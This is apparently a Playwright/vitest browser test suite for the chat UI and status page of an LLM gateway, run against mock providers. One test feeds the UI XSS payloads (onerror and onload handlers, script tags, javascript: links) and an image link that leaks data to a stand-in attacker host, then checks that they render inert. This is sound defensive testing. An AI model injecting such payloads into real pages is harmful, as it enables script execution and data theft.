/**
 * The chat UI and status page in a real browser: Debian's Chromium (scripts/install-chromium.sh) driven by
 * playwright-core, against the real gateway (buildGateway) and simulated upstreams (startMockProvider).
 */
import { execFileSync } from 'node:child_process';
import { existsSync } from 'node:fs';
import { copyFile, mkdir, mkdtemp, readFile, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { type Browser, type BrowserContext, chromium, type Page } from 'playwright-core';
import { build } from 'vite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildGateway, type Gateway } from '../../src/gateway/app.ts';
import { StaticClientKeys } from '../../src/gateway/client-keys.ts';
import { MemorySnapshotSource } from '../../src/gateway/snapshot-source.ts';
import { type MockProvider, startMockProvider } from '../../src/mock-provider/index.ts';
import type { Snapshot, SnapshotConnection } from '../../src/snapshot/schema.ts';

const CHROMIUM = process.env.PLUGBOARD_CHROMIUM ?? '/usr/bin/chromium';
const SHOTS = join(process.cwd(), 'reports', 'screenshots');
const CLIENT_KEY = 'pb-test-key-0123456789';

function connection(
  name: string,
  url: string,
  models: string[],
  over: Partial<SnapshotConnection> = {},
): SnapshotConnection {
  return {
    namespace: 'ai',
    name,
    provider: 'OpenAI',
    url,
    headers: {},
    dropParams: [],
    tags: [],
    timeouts: { connectMs: 2000, firstByteMs: 10_000, idleMs: 10_000, totalMs: 60_000 },
    serving: true,
    status: {
      ready: { status: 'True', reason: 'Verified', message: `GET /models answered 200` },
      verified: { status: 'True', reason: 'Verified', message: '' },
      lastVerifiedTime: new Date(Date.now() - 60_000).toISOString(),
      discoveredModelCount: models.length,
    },
    models: models.map((id) => ({ id, upstreamId: id })),
    ...over,
  };
}

let uiDir: string;
let browser: Browser;
let openai: MockProvider;
let deepseek: MockProvider;
let minimax: MockProvider;
let locked: MockProvider;
let gateway: Gateway;
let base: string;
let keyed: Gateway;
let keyedBase: string;

beforeAll(async () => {
  if (!existsSync(CHROMIUM)) execFileSync('bash', ['scripts/install-chromium.sh'], { stdio: 'inherit' });
  uiDir = await mkdtemp(join(tmpdir(), 'plugboard-ui-'));
  const started = Date.now();
  await build({
    configFile: 'vite.config.ts',
    logLevel: 'warn',
    build: { outDir: uiDir, emptyOutDir: true },
  });
  console.log(`UI built in ${Date.now() - started} ms`);
  await mkdir(SHOTS, { recursive: true });

  [openai, deepseek, minimax, locked] = await Promise.all([
    startMockProvider({ profile: 'openai', chunkDelayMs: 15 }),
    startMockProvider({ profile: 'deepseek', chunkDelayMs: 5 }),
    startMockProvider({ profile: 'minimax', chunkDelayMs: 5 }),
    // The gateway holds the wrong key for this one: every request is refused upstream with 401.
    startMockProvider({ profile: 'openai', apiKey: 'sk-right', models: ['gpt-locked'] }),
  ]);
  const snapshot: Snapshot = {
    format: 1,
    generation: 7,
    generatedAt: new Date().toISOString(),
    connections: [
      connection('openai', openai.url, ['gpt-4o', 'gpt-4o-mini'], { tags: ['cloud'] }),
      connection('deepseek', deepseek.url, ['deepseek-chat', 'deepseek-reasoner'], { tags: ['cloud', 'cn'] }),
      connection('minimax', minimax.url, ['MiniMax-M2.5']),
      connection('locked', locked.url, ['gpt-locked'], { apiKey: 'sk-wrong' }),
      connection('anthropic', 'https://api.anthropic.com/v1', [], {
        provider: 'Anthropic',
        serving: false,
        status: {
          ready: {
            status: 'False',
            reason: 'Unauthorized',
            message: 'GET https://api.anthropic.com/v1/models answered 401: invalid x-api-key',
          },
          verified: { status: 'False', reason: 'Unauthorized', message: 'invalid x-api-key' },
          lastVerifiedTime: new Date(Date.now() - 30_000).toISOString(),
        },
      }),
    ],
  };
  gateway = await buildGateway({
    snapshots: new MemorySnapshotSource(snapshot),
    uiDir,
    logger: false,
    defaultMetrics: false,
  });
  base = await gateway.listen('127.0.0.1', 0);
  keyed = await buildGateway({
    snapshots: new MemorySnapshotSource(snapshot),
    clientKeys: new StaticClientKeys(JSON.stringify([{ name: 'browser', key: CLIENT_KEY }])),
    uiDir,
    logger: false,
    defaultMetrics: false,
  });
  keyedBase = await keyed.listen('127.0.0.1', 0);

  browser = await chromium.launch({
    executablePath: CHROMIUM,
    args: [
      '--headless',
      '--no-sandbox',
      '--disable-gpu',
      '--disable-background-networking',
      '--disable-component-update',
      '--disable-quic',
      '--no-first-run',
      '--disable-sync',
    ],
  });
});

afterAll(async () => {
  await browser?.close();
  await Promise.all([gateway?.close(), keyed?.close()]);
  await Promise.all([openai?.close(), deepseek?.close(), minimax?.close(), locked?.close()]);
  if (uiDir) await rm(uiDir, { recursive: true, force: true });
});

/** A fresh browser profile; page errors and CSP violations fail the test. */
async function open(url: string, opts: { width?: number; dark?: boolean } = {}) {
  const context: BrowserContext = await browser.newContext({
    viewport: { width: opts.width ?? 1280, height: 800 },
    acceptDownloads: true,
    colorScheme: opts.dark ? 'dark' : 'light',
  });
  const page = await context.newPage();
  const problems: string[] = [];
  page.on('pageerror', (e) => problems.push(`pageerror: ${e.message}`));
  page.on('console', (m) => {
    if (m.type() === 'error' && !/401|Unauthorized/.test(m.text())) problems.push(`console: ${m.text()}`);
  });
  await page.goto(url);
  return { context, page, problems };
}

async function pickModel(page: Page, search: string, id: string) {
  await page.getByRole('button', { name: /^Model:/ }).click();
  await page.getByRole('combobox', { name: 'Search models' }).fill(search);
  await page.getByRole('option', { name: id, exact: true }).click();
  await expect.poll(() => page.getByRole('button', { name: /^Model:/ }).textContent()).toContain(id);
}

async function send(page: Page, text: string) {
  const box = page.getByRole('textbox', { name: 'Message' });
  await box.fill(text);
  await box.press('Enter');
}

const lastReply = (page: Page) => page.locator('article.msg.assistant').last();

describe('chat UI in Chromium', () => {
  it('picks a model, streams the reply, keeps the history across a reload', async () => {
    const { context, page, problems } = await open(`${base}/`);
    // Models are grouped by connection, with tags; the failing connection offers none.
    await page.getByRole('button', { name: /^Model:/ }).click();
    await expect.poll(() => page.getByRole('group', { name: /ai\/deepseek/ }).count()).toBe(1);
    await expect.poll(() => page.getByRole('option').count()).toBe(6);
    await page.keyboard.press('Escape');
    await pickModel(page, '4o-mini', 'gpt-4o-mini');

    // Streaming: the reply is visible while the request is still running (slowed to ~3 s so that a busy
    // machine still sees it in progress).
    openai.setChunkDelay(150);
    let partial = '';
    try {
      await send(page, 'Write **bold** and `code` please, in several words so that it streams for a while');
      await expect.poll(() => lastReply(page).getAttribute('aria-busy')).toBe('true');
      await expect.poll(() => lastReply(page).locator('.md').textContent()).toContain('Hello from openai!');
      partial = (await lastReply(page).locator('.md').textContent()) ?? '';
      await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 15_000 }).toBe('false');
    } finally {
      openai.setChunkDelay(15);
    }
    const full = (await lastReply(page).locator('.md').textContent()) ?? '';
    expect(partial.length).toBeLessThan(full.length);
    expect(full).toContain('You said: Write bold and code please');
    expect(await lastReply(page).locator('strong').textContent()).toBe('bold');
    const req = openai.requests.findLast((r) => r.path.endsWith('/chat/completions'));
    expect(req?.body).toMatchObject({ model: 'gpt-4o-mini', stream: true });

    // A code block gets highlighting and a copy button.
    await send(page, 'Here:\n\n```python\ndef add(a, b):\n    return a + b  # sum\n```\n\nDone.');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    await expect.poll(() => lastReply(page).locator('.hljs-keyword').count()).toBeGreaterThan(0);
    await expect.poll(() => lastReply(page).getByRole('button', { name: 'Copy code' }).count()).toBe(1);
    await page.screenshot({ path: join(SHOTS, 'chat.png') });

    await page.reload();
    await expect.poll(() => page.locator('article.msg').count()).toBe(4);
    expect(await page.getByRole('navigation', { name: 'Conversations' }).textContent()).toContain(
      'Write **bold**',
    );
    expect(await lastReply(page).locator('.md').textContent()).toContain('Done.');
    expect(problems).toEqual([]);
    await context.close();
  });

  it('Stop aborts the request and the gateway cancels the upstream', async () => {
    const { context, page, problems } = await open(`${base}/`);
    await pickModel(page, 'gpt-4o', 'gpt-4o');
    openai.reset();
    // 150 words at 200 ms a chunk: however busy the machine, Stop comes long before the end
    openai.setChunkDelay(200);
    try {
      await send(page, Array.from({ length: 150 }, (_, i) => `word${i}`).join(' '));
      await expect.poll(() => lastReply(page).locator('.md').textContent()).toContain('Hello from openai');
      await page.getByRole('button', { name: 'Stop generating' }).click();
      const aborted = await openai.waitForAbort((r) => r.path.endsWith('/chat/completions'), 10_000);
      expect(aborted.abortedAt).toBeDefined();
    } finally {
      openai.setChunkDelay(15);
    }
    await expect.poll(() => lastReply(page).textContent()).toContain('Stopped.');
    const kept = (await lastReply(page).locator('.md').textContent()) ?? '';
    expect(kept).not.toContain('word149');
    // The partial reply survives a reload; regenerate then runs it again to the end.
    await page.reload();
    await expect.poll(() => lastReply(page).textContent()).toContain('Stopped.');
    await lastReply(page).getByRole('button', { name: 'Regenerate reply' }).click();
    await expect
      .poll(() => lastReply(page).locator('.md').textContent(), { timeout: 15_000 })
      .toContain('word149');
    expect(problems).toEqual([]);
    await context.close();
  });

  it('renders a hostile reply inert', async () => {
    const { context, page, problems } = await open(`${base}/`);
    await pickModel(page, 'gpt-4o', 'gpt-4o');
    const hostile = [
      '<img src=x onerror="window.__pwned=1">',
      '<script>window.__pwned=2</script>',
      '<svg onload="window.__pwned=3"></svg>',
      '[click](javascript:window.__pwned=4)',
      '![pixel](https://attacker.invalid/leak?q=secret)',
      '<a href="javascript:window.__pwned=5">x</a>',
    ].join('\n\n');
    await send(page, hostile);
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    const reply = lastReply(page);
    expect(await reply.textContent()).toContain('<img src=x onerror=');
    expect(await page.locator('.messages img, .messages script').count()).toBe(0);
    for (const sel of ['img', 'script', 'svg', 'iframe', '[onerror]', '[onload]', 'a[href^="javascript:"]']) {
      expect(await page.locator(`.messages .md ${sel}, .messages > ${sel}`).count(), sel).toBe(0);
    }
    // Clicking the links must not run anything either.
    for (const link of await reply.locator('a').all())
      await link.click({ modifiers: ['Control'] }).catch(() => {});
    await page.waitForTimeout(200);
    expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
    expect(problems).toEqual([]);
    await context.close();
  });

  it('shows reasoning collapsed in a Thinking section, for reasoning_content and <think> blocks', async () => {
    const { context, page, problems } = await open(`${base}/`, { dark: true });
    await pickModel(page, 'reasoner', 'deepseek-reasoner');
    await send(page, 'Why is the sky blue?');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    let thinking = lastReply(page).locator('details.thinking');
    expect(await thinking.count()).toBe(1);
    expect(await thinking.evaluate((d) => (d as HTMLDetailsElement).open)).toBe(false);
    expect(await thinking.locator('summary').textContent()).toBe('Thinking');
    expect((await lastReply(page).locator(':scope > .md').textContent())?.trim()).toBe(
      'Hello from deepseek! You said: Why is the sky blue?',
    );
    await thinking.locator('summary').click();
    expect(await thinking.textContent()).toContain('I should greet them from deepseek');
    // The reasoning is not sent back to the model with the next turn.
    deepseek.reset();
    await send(page, 'And at sunset?');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    const sent = JSON.stringify(deepseek.requests.find((r) => r.path.endsWith('/chat/completions'))?.body);
    expect(sent).not.toContain('I should greet them');

    await pickModel(page, 'minimax', 'MiniMax-M2.5');
    await send(page, 'Hi MiniMax');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    thinking = lastReply(page).locator('details.thinking');
    expect(await thinking.evaluate((d) => (d as HTMLDetailsElement).open)).toBe(false);
    expect(await thinking.textContent()).toContain('I should greet them from minimax');
    const answer = (await lastReply(page).locator(':scope > .md').textContent())?.trim();
    expect(answer).toBe('Hello from minimax! You said: Hi MiniMax');
    await page.screenshot({ path: join(SHOTS, 'chat-dark-reasoning.png') });
    expect(problems).toEqual([]);
    await context.close();
  });

  it('sends the system prompt, temperature and max tokens; renames, exports and deletes conversations', async () => {
    const { context, page, problems } = await open(`${base}/`);
    await pickModel(page, 'gpt-4o-mini', 'gpt-4o-mini');
    await page.getByRole('button', { name: 'Conversation settings' }).click();
    await page.getByLabel('System prompt').fill('You are terse.');
    await page.getByLabel(/^Temperature/).fill('0.3');
    await page.getByLabel('Max tokens').fill('64');
    openai.reset();
    await send(page, 'Settings check');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    const body = openai.requests.find((r) => r.path.endsWith('/chat/completions'))?.body;
    expect(body).toMatchObject({
      messages: [
        { role: 'system', content: 'You are terse.' },
        { role: 'user', content: 'Settings check' },
      ],
      temperature: 0.3,
      max_tokens: 64,
    });

    const sidebar = page.getByRole('navigation', { name: 'Conversations' });
    await sidebar.getByLabel('Actions for Settings check').click();
    await sidebar.getByRole('button', { name: 'Rename' }).click();
    await sidebar.getByLabel('Conversation name').fill('Renamed chat');
    await sidebar.getByLabel('Conversation name').press('Enter');
    await expect.poll(() => sidebar.textContent()).toContain('Renamed chat');

    await sidebar.getByLabel('Actions for Renamed chat').click();
    const [json] = await Promise.all([
      page.waitForEvent('download'),
      sidebar.getByRole('button', { name: 'Export JSON' }).click(),
    ]);
    expect(json.suggestedFilename()).toBe('renamed-chat.json');
    const exported = JSON.parse(await readFile((await json.path()) ?? '', 'utf8'));
    expect(exported).toMatchObject({ title: 'Renamed chat', system: 'You are terse.', model: 'gpt-4o-mini' });
    expect(exported.messages).toHaveLength(2);
    const [md] = await Promise.all([
      page.waitForEvent('download'),
      sidebar.getByRole('button', { name: 'Export Markdown' }).click(),
    ]);
    const markdown = await readFile((await md.path()) ?? '', 'utf8');
    expect(markdown).toContain('# Renamed chat');
    expect(markdown).toContain('## Assistant (gpt-4o-mini)');

    page.once('dialog', (d) => d.accept());
    await sidebar.getByRole('button', { name: 'Delete' }).click();
    await expect.poll(() => sidebar.textContent()).not.toContain('Renamed chat');
    await page.reload();
    expect(await sidebar.textContent()).not.toContain('Renamed chat');
    expect(problems).toEqual([]);
    await context.close();
  });

  it('edits a message and resends it, replacing what followed', async () => {
    const { context, page, problems } = await open(`${base}/`);
    await pickModel(page, 'gpt-4o-mini', 'gpt-4o-mini');
    await send(page, 'First try');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    await page.getByRole('button', { name: 'Edit and resend' }).click();
    await page.getByLabel('Edit message').fill('Second try');
    await page.getByRole('button', { name: 'Save & send' }).click();
    await expect
      .poll(() => lastReply(page).locator('.md').textContent(), { timeout: 10_000 })
      .toContain('You said: Second try');
    expect(await page.locator('article.msg').count()).toBe(2);
    expect(await page.locator('.messages').textContent()).not.toContain('First try');
    expect(problems).toEqual([]);
    await context.close();
  });

  it('explains an upstream refusal in plain words with the connection, and keeps the conversation', async () => {
    const { context, page } = await open(`${base}/`);
    await pickModel(page, 'locked', 'gpt-locked');
    await send(page, 'Are you there?');
    const alert = lastReply(page).getByRole('alert');
    await expect.poll(() => alert.count(), { timeout: 10_000 }).toBe(1);
    const text = (await alert.textContent()) ?? '';
    expect(text).toContain('The provider refused the request (connection ai/locked)');
    expect(text).toContain('HTTP 401');
    // Not mistaken for the gateway asking for a key.
    expect(await page.getByRole('dialog').count()).toBe(0);
    await page.reload();
    await expect.poll(() => page.locator('article.msg.user').textContent()).toContain('Are you there?');
    expect(await lastReply(page).getByRole('alert').textContent()).toContain('ai/locked');
    await context.close();
  });

  it('the status page shows every connection and the failing one’s reason', async () => {
    const { context, page, problems } = await open(`${base}/#/status`);
    const failing = page.getByRole('article', { name: 'ai/anthropic' });
    await expect.poll(() => failing.textContent()).toContain('Unauthorized');
    const text = (await failing.textContent()) ?? '';
    expect(text).toContain('invalid x-api-key');
    expect(text).toContain('Not ready');
    expect(text).toContain('https://api.anthropic.com/v1');
    const ok = page.getByRole('article', { name: 'ai/openai' });
    expect(await ok.textContent()).toContain('2 exposed of 2 discovered');
    expect(await ok.textContent()).toContain('gpt-4o-mini');
    expect(await page.locator('.summary').textContent()).toContain('5 connections · 4 ready · 1 not ready');
    await page.screenshot({ path: join(SHOTS, 'status.png'), fullPage: true });
    expect(problems).toEqual([]);
    await context.close();
  });

  it('asks for an API key when the gateway answers 401, keeps it in the browser and sends it', async () => {
    const { context, page, problems } = await open(`${keyedBase}/`);
    const dialog = page.getByRole('dialog', { name: 'API key required' });
    await expect.poll(() => dialog.isVisible()).toBe(true);
    await dialog.getByLabel('API key').fill(CLIENT_KEY);
    await dialog.getByRole('button', { name: 'Save key' }).click();
    await expect.poll(() => dialog.isVisible()).toBe(false);
    await pickModel(page, 'gpt-4o-mini', 'gpt-4o-mini');
    await send(page, 'Hello with a key');
    await expect
      .poll(() => lastReply(page).locator('.md').textContent(), { timeout: 10_000 })
      .toContain('You said: Hello with a key');
    expect(await page.evaluate(() => localStorage.getItem('plugboard.apiKey'))).toBe(CLIENT_KEY);
    // The status page works with the key too.
    await page.goto(`${keyedBase}/#/status`);
    await expect.poll(() => page.getByRole('article', { name: 'ai/anthropic' }).count()).toBe(1);
    expect(problems).toEqual([]);
    await context.close();
  });

  it('is usable at phone width', async () => {
    const { context, page, problems } = await open(`${base}/`, { width: 390 });
    await pickModel(page, 'gpt-4o-mini', 'gpt-4o-mini');
    await send(page, 'Hello from a phone');
    await expect.poll(() => lastReply(page).getAttribute('aria-busy'), { timeout: 10_000 }).toBe('false');
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth > window.innerWidth);
    expect(overflow).toBe(false);
    await page.getByRole('button', { name: 'Show conversations' }).click();
    await expect.poll(() => page.getByRole('button', { name: 'New chat' }).isVisible()).toBe(true);
    await page.waitForTimeout(300); // the slide-in transition
    await page.screenshot({ path: join(SHOTS, 'phone.png') });
    expect(problems).toEqual([]);
    await context.close();
  });
});

describe('README images', () => {
  it('are refreshed from this run when PLUGBOARD_UPDATE_DOCS=1', async () => {
    if (process.env.PLUGBOARD_UPDATE_DOCS !== '1') return;
    await mkdir('docs/images', { recursive: true });
    await copyFile(join(SHOTS, 'chat.png'), 'docs/images/chat.png');
    await copyFile(join(SHOTS, 'status.png'), 'docs/images/status.png');
  });
});
